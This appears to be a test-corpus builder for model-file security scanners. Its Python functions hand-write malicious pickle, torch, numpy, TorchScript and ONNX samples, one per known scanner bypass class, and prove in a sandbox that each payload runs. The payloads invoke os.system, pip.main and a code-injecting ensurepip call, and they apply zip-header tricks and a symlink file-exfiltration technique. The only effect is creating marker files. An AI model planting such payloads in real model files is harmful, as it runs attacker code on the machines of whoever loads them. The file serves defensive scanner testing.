"""The scanner corpus: one malicious sample per bypass class reported against picklescan, modelscan and ModelAudit,
and a benign corpus of real framework checkpoints. Used by tests/scanning and benchmarks/scanners.py.

Malicious samples are written as raw opcodes and bytes (nothing here pickles a real callable). Each would write
its own marker file (`<out>/markers/<name>`) if loaded the way its `loader` says; `prove_markers` does exactly that
in a throwaway subprocess, the only place a sample is ever loaded. The ONNX sample reads a file instead: its proof is
that the model's output is that file's bytes.
"""
from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path

import numpy as np

REPO = Path(__file__).resolve().parents[2]
CORPUS_PYTHON = REPO / ".venv-corpus" / "bin" / "python"
BENIGN_SCRIPT = Path(__file__).with_name("scan_benign_models.py")


@dataclass(frozen=True)
class Sample:
    """One corpus file: its bypass class, the path to scan, and how an unsafe loader would open it."""

    name: str
    kind: str  # the bypass class, as docs/scanning.md lists it
    path: Path
    loader: str  # pickle | torch | numpy | torchscript | onnx | unzip-torch | none (benign)
    target: str | None = None  # the callable it would run (what a scanner should name)


# --- raw pickle pieces ---------------------------------------------------------------------------------

def memo_str(s: str) -> bytes:
    """SHORT_BINUNICODE + MEMOIZE (protocol 4 style)."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b + b"\x94"


def binunicode(s: str) -> bytes:
    """BINUNICODE."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def _call(module: str, name: str, *args: str) -> bytes:
    """Protocol 2: `module.name(*args)` by GLOBAL + REDUCE; string arguments only."""
    return b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n(" + b"".join(binunicode(a) for a in args) + b"tR."


def _touch(marker: Path) -> str:
    return f"touch {marker}"


def _torch_zip(data_pkl: bytes, prefix: str = "archive") -> bytes:
    """A torch.save archive (as torch >= 1.6 writes it) whose data.pkl is `data_pkl` and holds no tensors."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{prefix}/data.pkl", data_pkl)
        zf.writestr(f"{prefix}/byteorder", b"little")
        zf.writestr(f"{prefix}/version", b"3\n")
        zf.writestr(f"{prefix}/.data/serialization_id", b"0" * 40)
    return buf.getvalue()


def _local_headers(data: bytearray, member: bytes) -> list[int]:
    found, i = [], 0
    while (i := data.find(b"PK\x03\x04", i)) >= 0:
        n = struct.unpack_from("<H", data, i + 26)[0]
        if bytes(data[i + 30:i + 30 + n]) == member:
            found.append(i)
        i += 4
    return found


def _npy_object(pickle_bytes: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickle_bytes


# --- malicious samples ---------------------------------------------------------------------------------

def build_malicious(out: Path) -> list[Sample]:
    """Write every malicious sample under `out` (markers go to `out/markers/`)."""
    out.mkdir(parents=True, exist_ok=True)
    markers = out / "markers"
    markers.mkdir(exist_ok=True)
    samples: list[Sample] = []

    def add(name: str, kind: str, filename: str, data: bytes, loader: str, target: str) -> None:
        path = out / name / filename
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        samples.append(Sample(name, kind, path, loader, target))

    def m(name: str) -> Path:
        return markers / name

    os_system = lambda name: _call("os", "system", _touch(m(name)))  # noqa: E731

    add("torch_collect_env_run", "callable under torch.*", "pytorch_model.bin",
        _torch_zip(_call("torch.utils.collect_env", "run", _touch(m("torch_collect_env_run")))), "torch",
        "torch.utils.collect_env.run")
    # pip.main(["config", "list", "--log", MARKER]): pip writes its log file.
    pip_main = (b"\x80\x04" + memo_str("pip") + memo_str("main") + b"\x93]" + b"(" + binunicode("config") + binunicode("list") + binunicode("--log")
                + binunicode(str(m("pip_main"))) + b"e\x85R.")
    add("pip_main", "package installer entry point", "model.pkl", pip_main, "pickle", "pip.main")
    # ensurepip._run_pip(args, additional_paths) pastes additional_paths into the code it runs.
    inject = f"__import__('os').system({_touch(m('ensurepip_run_pip'))!r}) or []"
    add("ensurepip_run_pip", "package installer entry point", "model.pkl",
        b"\x80\x02censurepip\n_run_pip\n(]" + binunicode("--version") + b"a" + binunicode(inject) + b"tR.",
        "pickle", "ensurepip._run_pip")
    # Protocol 4 resolves a dotted name attribute by attribute: module "torch", name "serialization.os.system".
    add("dotted_qualname", "protocol-4 dotted qualname", "model.pkl",
        b"\x80\x04" + memo_str("torch") + memo_str("serialization.os.system") + b"\x93" + binunicode(_touch(m("dotted_qualname")))
        + b"\x85R.", "pickle", "torch.serialization.os.system")
    # getattr(__import__('os'), 'system')(cmd): only builtins named, the callable built at load time.
    add("getattr_chain", "protocol-4 dotted qualname", "model.pkl",
        b"\x80\x04" + memo_str("builtins") + memo_str("getattr") + b"\x93" + memo_str("builtins") + memo_str("__import__") + b"\x93"
        + binunicode("os") + b"\x85R" + binunicode("system") + b"\x86R" + binunicode(_touch(m("getattr_chain"))) + b"\x85R.",
        "pickle", "builtins.getattr")
    # The module and name strings are memoized, popped off the stack, fetched back (GET) and DUPed.
    add("memo_stack_global", "memo / STACK_GLOBAL trick", "model.pkl",
        b"\x80\x04" + memo_str("os") + b"0" + memo_str("system") + b"0" + b"h\x00h\x01\x93" + b"2" + b"0"
        + binunicode(_touch(m("memo_stack_global"))) + b"\x85R.", "pickle", "os.system")
    # Zip tricks on a torch.save archive whose data.pkl runs os.system.
    plain = bytearray(_torch_zip(os_system("zip_header_mismatch")))
    at = _local_headers(plain, b"archive/data.pkl")[0]
    plain[at + 30:at + 30 + 16] = b"archive/datx.pkl"  # the local header names another member
    add("zip_header_mismatch", "zip local-vs-central header mismatch", "model.pt", bytes(plain), "torch", "os.system")
    flagged = bytearray(_torch_zip(os_system("zip_flag_bit")))
    flagged[_local_headers(flagged, b"archive/data.pkl")[0] + 6] |= 0x1  # "encrypted", in the local header only
    add("zip_flag_bit", "zip flag-bit trick", "model.pt", bytes(flagged), "torch", "os.system")
    dup = io.BytesIO()
    with zipfile.ZipFile(dup, "w", zipfile.ZIP_STORED) as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name": the point of the sample
        zf.writestr("archive/data.pkl", b"\x80\x02}q\x00.")
        zf.writestr("archive/data.pkl", os_system("zip_duplicate_member"))  # torch reads this one
        zf.writestr("archive/byteorder", b"little")
        zf.writestr("archive/version", b"3\n")
        zf.writestr("archive/.data/serialization_id", b"0" * 40)
    add("zip_duplicate_member", "duplicate zip members", "model.pt", dup.getvalue(), "torch", "os.system")
    # np.load(allow_pickle=True) reads an .npz member whatever its name; this one is not `*.npy`.
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("inputs", _npy_object(os_system("unusual_member_name")))
    add("unusual_member_name", "pickle under an unusual member name", "payload.npz", npz.getvalue(), "numpy-npz",
        "os.system")
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("README.txt", b"model bundle\n")
        zf.writestr("model/model.pt", _torch_zip(os_system("nested_archive")))
    add("nested_archive", "nested archives (zip in zip)", "bundle.zip", nested.getvalue(), "unzip-torch", "os.system")
    add("npy_object_payload", "object-dtype .npy", "payload.npy", _npy_object(os_system("npy_object_payload")),
        "numpy", "os.system")
    # The legacy (pre-1.6) torch.save stream: the first pickle (the "magic number") already runs code.
    add("legacy_torch_magic", "legacy torch.save stream", "model.pt", os_system("legacy_torch_magic")
        + b"\x80\x02K\xe9.", "torch", "os.system")
    samples.append(_torchscript_gadget(out, m("torchscript_code_gadget")))
    samples.append(_onnx_symlink(out))
    return samples


def _torchscript_gadget(out: Path, marker: Path) -> Sample:
    """A scripted module whose `__setstate__` (run by torch.jit.load) calls torch.from_file(MARKER, shared=True),
    which creates the file: code/ edited after saving, as an attacker would."""
    import torch

    class Scaled(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.w = torch.nn.Parameter(torch.ones(2))

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x * self.w

        @torch.jit.export
        def __getstate__(self) -> tuple[torch.Tensor, bool]:
            return (self.w, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
            self.w = state[0]
            self.training = state[1]

    folder = out / "torchscript_code_gadget"
    folder.mkdir(parents=True, exist_ok=True)
    clean = folder / "clean.pt"
    torch.jit.script(Scaled()).save(str(clean))
    path = folder / "model.torchscript.pt"
    with zipfile.ZipFile(clean) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("code/__torch__.py") or info.filename.endswith(".py") and b"__setstate__" in data:
                data = data.replace(b"    self.training = (state)[1]\n",
                                    b"    self.training = (state)[1]\n"
                                    + f"    _0 = torch.from_file({str(marker)!r}, True, 4)\n".encode()
                                    + b"    self.w = torch.add(self.w, torch.sum(_0))\n")
            dst.writestr(info, data)
    clean.unlink()
    return Sample("torchscript_code_gadget", "TorchScript code/ gadget", path, "torchscript", "torch.from_file")


def _onnx_symlink(out: Path) -> Sample:
    """An ONNX model whose only weight is external data through a symlink to a file outside its folder: the
    model's output is that file's bytes (exfiltration; the secret stands in for ~/.ssh/id_rsa)."""
    import onnx
    from onnx import TensorProto, helper

    folder = out / "onnx_external_symlink"
    folder.mkdir(parents=True, exist_ok=True)
    secret = out / "markers" / "onnx_secret.bin"
    secret.write_bytes(b"SECRET-ONNX-EXFIL".ljust(64, b"!"))
    weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[16])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "weights.bin"), ("offset", "0"), ("length", "64")):
        weight.external_data.add(key=key, value=value)
    graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [16])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [16])], initializer=[weight])
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8),
              str(folder / "model.onnx"))
    link = folder / "weights.bin"
    if link.is_symlink() or link.exists():
        link.unlink()
    link.symlink_to(secret)
    return Sample("onnx_external_symlink", "ONNX external data through a symlink", folder / "model.onnx", "onnx",
                  "weights.bin")


# --- benign samples ------------------------------------------------------------------------------------

def _cache_root() -> Path:
    return Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache") / "modelcompat" / "scan-corpus"


def build_benign(out: Path) -> list[Sample]:
    """Real torchvision / transformers checkpoints, joblib'd scikit-learn models and safetensors (built by
    .venv-corpus, cached per machine by the builder's hash), plus numpy arrays, ONNX with external data and a
    torch.export archive built here."""
    if not CORPUS_PYTHON.exists():
        raise RuntimeError("corpus venv .venv-corpus is missing: run `make corpus-env` (part of `make test`)")
    key = hashlib.sha256(BENIGN_SCRIPT.read_bytes() + (REPO / "corpus" / "requirements.txt").read_bytes())
    cached = _cache_root() / key.hexdigest()[:16]
    if not (cached / "done.json").is_file():
        work = cached.with_name(cached.name + f".tmp{os.getpid()}")
        shutil.rmtree(work, ignore_errors=True)
        proc = subprocess.run([str(CORPUS_PYTHON), str(BENIGN_SCRIPT), str(work)], capture_output=True, text=True,
                              timeout=1800, env={**os.environ, "PYTHONPATH": ""}, check=False)
        if proc.returncode != 0:
            raise RuntimeError(f"building the benign corpus failed:\n{proc.stderr[-3000:]}")
        (work / "done.json").write_text(json.dumps(sorted(p.name for p in work.iterdir())))
        shutil.rmtree(cached, ignore_errors=True)
        os.replace(work, cached)
    out.mkdir(parents=True, exist_ok=True)
    samples = []
    for src in sorted(cached.iterdir()):
        if src.name == "done.json":
            continue
        dst = out / src.name
        if src.is_dir():
            shutil.copytree(src, dst, dirs_exist_ok=True)
            dst = dst / "model.safetensors"
        else:
            shutil.copyfile(src, dst)
        # Names are unique: the same model may be saved twice (`resnet18.pth`, `resnet18.safetensors`).
        name = src.name if src.is_dir() else src.stem + ("_safetensors" if src.suffix == ".safetensors" else "")
        samples.append(Sample(name, "benign", dst, "none"))
    samples += _benign_here(out)
    return samples


def _benign_here(out: Path) -> list[Sample]:
    import torch

    from support.extdata import external_mlp

    rng = np.random.default_rng(0)
    np.save(out / "numpy_float_payload.npy", rng.standard_normal((4, 16)).astype(np.float32))
    np.savez(out / "numpy_payloads.npz", x=rng.standard_normal((2, 8)), ids=np.arange(8))
    onnx_path, _ = external_mlp(out / "onnx_external_data", "weights/mlp.bin")

    class Tiny(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.fc = torch.nn.Linear(8, 4)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.relu(self.fc(x))

    torch.export.save(torch.export.export(Tiny(), (torch.randn(2, 8),)), str(out / "torch_export_tiny.pt2"))
    return [Sample("numpy_float_payload", "benign", out / "numpy_float_payload.npy", "none"),
            Sample("numpy_payloads", "benign", out / "numpy_payloads.npz", "none"),
            Sample("onnx_external_data", "benign", onnx_path, "none"),
            Sample("torch_export_tiny", "benign", out / "torch_export_tiny.pt2", "none")]


# --- proving the malicious samples really run ------------------------------------------------------------

_LOADERS = r'''
import json, os, pickle, sys, zipfile, io
samples = json.loads(sys.argv[1])
ONNX_PYTHON = sys.argv[2]
for name, loader, path in samples:
    try:
        if loader == "pickle":
            pickle.loads(open(path, "rb").read())
        elif loader == "torch":
            import torch
            torch.load(path, weights_only=False)
        elif loader == "numpy":
            import numpy as np
            np.load(path, allow_pickle=True)
        elif loader == "numpy-npz":
            import numpy as np
            with np.load(path, allow_pickle=True) as f:
                [f[k] for k in f.files]
        elif loader == "unzip-torch":
            import torch
            with zipfile.ZipFile(path) as z:
                inner = z.read("model/model.pt")
            torch.load(io.BytesIO(inner), weights_only=False)
        elif loader == "torchscript":
            import torch
            torch.jit.load(path)
        elif loader == "onnx":
            import subprocess
            run = ("import numpy as np, onnxruntime as ort, sys; y = ort.InferenceSession(sys.argv[1]).run(None, "
                   "{'x': np.zeros(16, np.float32)})[0]; open(sys.argv[2], 'wb').write(y.tobytes())")
            marker = os.path.join(os.path.dirname(os.path.dirname(path)), "markers", name)
            subprocess.run([ONNX_PYTHON, "-c", run, path, marker], check=True, capture_output=True, timeout=120)
    except BaseException as exc:  # a payload's side effect happens before whatever fails after it
        print(name, type(exc).__name__, str(exc)[:200], file=sys.stderr)
'''


def prove_markers(samples: list[Sample], sandbox: Path, onnx_python: str) -> subprocess.CompletedProcess[str]:
    """Load every sample unsafely, each as its loader would, in one subprocess whose cwd and HOME are `sandbox`;
    the ONNX sample runs on `onnx_python` (onnxruntime >= 1.2x refuses symlinks escaping the model's folder; the
    1.16 a matrix cell pins still follows them)."""
    sandbox.mkdir(parents=True, exist_ok=True)
    todo = [(s.name, s.loader, str(s.path)) for s in samples]
    return subprocess.run([sys.executable, "-c", _LOADERS, json.dumps(todo), onnx_python], cwd=sandbox,
                          capture_output=True,
                          text=True, timeout=600, env={**os.environ, "HOME": str(sandbox)}, check=False)
